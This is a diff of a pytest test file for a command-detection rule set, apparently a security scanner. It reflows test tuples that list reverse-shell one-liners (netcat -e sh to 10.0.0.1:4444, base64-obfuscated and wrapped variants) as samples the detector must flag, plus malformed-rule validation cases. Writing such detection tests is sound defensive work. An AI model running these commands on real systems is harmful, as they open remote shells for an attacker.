@@ -53,7 +53,10 @@ def test_precision_and_recall_meet_the_goals(corpus, split):
         ("env A=1 busybox nc 10.0.0.1 4444 -e sh", "rs.netcat-exec"),
         ("sh -c 'bash -c \"eval nc -e sh 10.0.0.1 1\"'", "rs.netcat-exec"),
         ("echo bmMgLWUgL2Jpbi9zaCAxMC4wLjAuMSA0NDQ0 | base64 -d | sh", "rs.netcat-exec"),
-        ('sh -c "$(echo bmMgLWUgL2Jpbi9zaCAxMC4wLjAuMSA0NDQ0 | base64 --decode)"', "rs.netcat-exec"),
+        (
+            'sh -c "$(echo bmMgLWUgL2Jpbi9zaCAxMC4wLjAuMSA0NDQ0 | base64 --decode)"',
+            "rs.netcat-exec",
+        ),
         ("base64 -d <<< bmMgLWUgL2Jpbi9zaCAxMC4wLjAuMSA0NDQ0 > x.sh", "rs.netcat-exec"),
         ("bash <<EOF\nnc -e /bin/sh 10.0.0.1 4444\nEOF", "rs.netcat-exec"),
         ("python3 -c 'import os; os.system(\"nc -e sh 10.0.0.1 1\")'", "rs.netcat-exec"),
@@ -135,9 +138,18 @@ rules:
 @pytest.mark.parametrize(
     "text, message",
     [
-        ("rules: [{id: x, category: c, severity: huge, description: d, match: {text: a}}]", "severity"),
-        ("rules: [{id: x, category: c, severity: low, description: d, match: {text: '('}}]", "bad regex"),
-        ("rules: [{id: x, category: c, severity: low, description: d, match: {text: '{nope}'}}]", "macro"),
+        (
+            "rules: [{id: x, category: c, severity: huge, description: d, match: {text: a}}]",
+            "severity",
+        ),
+        (
+            "rules: [{id: x, category: c, severity: low, description: d, match: {text: '('}}]",
+            "bad regex",
+        ),
+        (
+            "rules: [{id: x, category: c, severity: low, description: d, match: {text: '{nope}'}}]",
+            "macro",
+        ),
         ("rules: [{id: x, category: c, severity: low, description: d, match: {}}]", "exactly one"),
         ("rules: [", "YAML"),
     ],
